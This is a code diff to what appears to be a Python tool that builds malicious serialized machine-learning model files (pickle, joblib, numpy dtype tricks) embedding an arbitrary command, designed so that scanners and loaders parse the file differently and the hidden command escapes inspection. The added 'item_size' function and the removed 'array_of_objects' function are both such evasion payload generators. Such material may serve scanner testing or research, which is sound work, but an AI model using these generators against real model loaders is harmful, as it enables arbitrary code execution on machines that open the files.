@@ -10,11 +10,10 @@ import io
 import pickle
 import struct
 import zipfile
+import zlib
 from collections.abc import Callable
 from typing import Any
 
-import joblib
-import numpy as np
 import skops.io
 
 
@@ -102,19 +101,19 @@ def member_twice(model: Any, command: str) -> bytes:
 
 def compressed(model: Any, command: str) -> bytes:
     """Two streams of zlib one behind the other; some parsers read both."""
-    import zlib
-
     return zlib.compress(pickle.dumps(model, 4)) + zlib.compress(trailing(model, command))
 
 
-def array_of_objects(model: Any, command: str) -> bytes:
-    """A pickle inside joblib's array of objects, which old versions read past any `find_class`."""
-    stream = io.BytesIO()
-    joblib.dump([np.array([None], dtype=object), model], stream)
-    return stream.getvalue().replace(b"cnumpy\nndarray\n", b"cnumpy\nndarray\n")
+def item_size(model: Any, command: str) -> bytes:
+    """A dtype whose name and state give its items two sizes."""
+    honest = b"0" + _body(model)
+    other = (b"0" + _command(command) + _body(model)).ljust(len(honest) * 2, b".")
+    state = b"J\xff\xff\xff\xffJ\xff\xff\xff\xffK\0tb"
+    lie = b"J\x02\0\0\0J\x01\0\0\0K\0tb"
+    return b"\x80\x04" + _wrapper(len(other), dtype=b"V1").replace(state, lie) + other + honest
 
 
 DIFFERENTIALS: dict[str, Callable[[Any, str], bytes]] = {
     function.__name__: function
-    for function in (frame, alignment, trailing, polyglot, member_twice, compressed)
+    for function in (frame, alignment, item_size, trailing, polyglot, member_twice, compressed)
 }
